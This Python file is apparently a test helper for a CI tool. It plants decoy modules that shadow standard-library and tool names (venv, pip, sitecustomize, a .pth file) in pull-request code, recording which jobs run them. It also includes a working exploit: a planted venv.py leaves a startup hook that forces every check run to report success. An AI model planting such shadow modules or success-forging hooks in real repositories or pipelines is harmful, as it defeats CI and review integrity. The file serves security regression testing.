"""Files a pull request can plant to run its code in a job that only meant to read it: a
standard-library or tool name (`venv.py`, `pip/`, `ensurepip/`, `hashlib.py`, `tomllib.py`)
that `python -m`/`-c`/`-` would import from the working directory, the startup hooks
(`sitecustomize.py`, `usercustomize.py`, `site.py`) and a `.pth` file.

Each planted module records that it ran (one JSON file per run in the markers folder: the
file, `GITHUB_JOB`, the interpreter, its prefix, argv, the working directory) and then gets
out of the way: it loads the real module it shadows, so a job that runs PR code on purpose
(a host job's `pip install -e .`) still works and only the record says what ran where.
"""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

# The module names, and the files that stand for them.
MODULES = ("venv", "hashlib", "tomllib", "sitecustomize", "usercustomize", "site")
PACKAGES = ("pip", "ensurepip")
PTH = "entropy-gate-planted.pth"

_RECORD = """\
import json as _json, os as _os, sys as _sys, uuid as _uuid
def _planted_record(name):
    try:
        _os.makedirs({markers!r}, exist_ok=True)
        entry = {{"file": _os.path.abspath(__file__) if "__file__" in globals() else name,
                 "module": name, "job": _os.environ.get("GITHUB_JOB", ""),
                 "executable": _sys.executable, "prefix": _sys.prefix,
                 "argv": list(_sys.argv), "cwd": _os.getcwd()}}
        path = _os.path.join({markers!r}, _uuid.uuid4().hex + ".json")
        with open(path, "w") as handle:
            _json.dump(entry, handle)
    except Exception:
        pass
"""

_STEP_ASIDE = '''\
def _planted_real(name, run_main):
    """Drop the planted folder from sys.path, forget the planted module, load the real one."""
    import importlib, runpy
    here = _os.path.dirname(_os.path.abspath(__file__))
    if _os.path.basename(here) == name:  # a planted package's file
        here = _os.path.dirname(here)
    was = list(_sys.path)  # put back after: the folder holds the project's own imports too
    _sys.path[:] = [p for p in was if _os.path.abspath(p or _os.getcwd()) != here]
    for loaded in [m for m in _sys.modules if m == name or m.startswith(name + ".")]:
        if loaded != "__main__":
            del _sys.modules[loaded]
    if run_main:
        runpy.run_module(name, run_name="__main__", alter_sys=True)
        return None
    try:
        return importlib.import_module(name)
    finally:
        _sys.path[:] = was
'''


# The exploit of issue 34, case 1: `python -m venv DIR` run by this file instead of the
# standard library's builds the real venv, then leaves in it a hook every later start of the
# venv loads, which makes every check run entropy-gate plans a success.
_EXPLOIT = '''\
def _planted_exploit():
    import glob
    target = [a for a in _sys.argv[1:] if not a.startswith("-")][-1]
    for site in glob.glob(_os.path.join(target, "lib", "python*", "site-packages")):
        with open(_os.path.join(site, "zz_planted_hook.py"), "w") as handle:
            handle.write(HOOK)
        with open(_os.path.join(site, "zz_planted_hook.pth"), "w") as handle:
            handle.write("import zz_planted_hook\\n")
HOOK = """
import dataclasses, importlib.util, sys
class _Finder:
    def find_spec(self, name, path=None, target=None):
        if name != "entropy_action.render.checkrun":
            return None
        sys.meta_path.remove(self)
        spec = importlib.util.find_spec(name)
        real = spec.loader.exec_module
        def exec_module(module):
            real(module)
            plan = module.plan
            module.plan = lambda *a, **k: dataclasses.replace(plan(*a, **k), conclusion="success")
        spec.loader.exec_module = exec_module
        return spec
sys.meta_path.insert(0, _Finder())
"""
'''


def _module(name: str, markers: Path, *, exploit: bool = False) -> str:
    main = f"    _planted_real({name!r}, True)\n"
    if exploit:
        main = (
            f"    try:\n        _planted_real({name!r}, True)\n"
            "    except SystemExit:\n        _planted_exploit()\n        raise\n"
            "    _planted_exploit()\n"
        )
    return (
        _RECORD.format(markers=str(markers))
        + _STEP_ASIDE
        + (_EXPLOIT if exploit else "")
        + f"_planted_record({name!r})\n"
        + f"if __name__ == '__main__':\n{main}"
        + "else:\n"
        + f"    _real = _planted_real({name!r}, False)\n"
        + f"    _sys.modules[{name!r}] = _real\n"
        + "    globals().update({k: v for k, v in vars(_real).items() if not k.startswith('__')})\n"
    )


def _package_main(name: str, markers: Path) -> str:
    return (
        _RECORD.format(markers=str(markers))
        + _STEP_ASIDE
        + f"_planted_record({name + '.__main__'!r})\n"
        + f"_planted_real({name!r}, True)\n"
    )


def plant(folder: Path, markers: Path, *, exploit: bool = False) -> list[Path]:
    """Plant every file in `folder`; the files written (relative to `folder`). `exploit`:
    the `venv.py` also leaves the success hook in the venv it builds."""
    written: list[Path] = []

    def write(relative: str, text: str) -> None:
        path = folder / relative
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(text, encoding="utf-8")
        written.append(Path(relative))

    for name in MODULES:
        write(f"{name}.py", _module(name, markers, exploit=exploit and name == "venv"))
    for name in PACKAGES:
        write(f"{name}/__init__.py", _module(name, markers))
        write(f"{name}/__main__.py", _package_main(name, markers))
    code = _RECORD.format(markers=str(markers)) + "_planted_record('pth')\n"
    namespace = {"__file__": str(folder / PTH)}
    write(PTH, f"import os; exec({code!r}, {namespace!r})\n")
    return written


def records(markers: Path) -> list[dict[str, Any]]:
    """What ran: one entry per planted module a process imported or ran."""
    if not markers.is_dir():
        return []
    found = [json.loads(p.read_text(encoding="utf-8")) for p in sorted(markers.glob("*.json"))]
    return sorted(found, key=lambda entry: (entry["job"], entry["module"], entry["cwd"]))
